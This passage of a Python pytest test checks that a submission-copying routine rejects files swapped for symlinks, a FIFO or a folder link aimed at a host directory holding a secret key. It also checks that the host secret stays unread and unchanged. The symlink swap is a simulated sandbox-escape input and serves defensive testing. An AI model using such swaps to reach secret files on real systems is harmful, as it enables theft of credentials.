        (tmp_path / "host-dir" / "key.txt").write_text("host key")
        shutil.rmtree(sub / "pkg")
        (sub / "pkg").symlink_to(tmp_path / "host-dir")
    else:
        (sub / "plugin.py").unlink()
    if swap == "symlink":
        (sub / "plugin.py").symlink_to(host)
    elif swap == "fifo":
        os.mkfifo(sub / "plugin.py")
    dst = tmp_path / "copy"
    dst.mkdir()
    with pytest.raises(SubmissionFilesError, match=r"pkg: |pkg/key\.txt: " if swap == "folder-link"
                       else r"plugin\.py: "):
        copy_submission(files, dst)
    assert host.stat().st_mode & 0o777 == 0o600 and host.read_text() == "secret"
    assert not (dst / "plugin.py").is_symlink()
    assert not (dst / "pkg" / "key.txt").exists() or (dst / "pkg" / "key.txt").read_text() == "public"
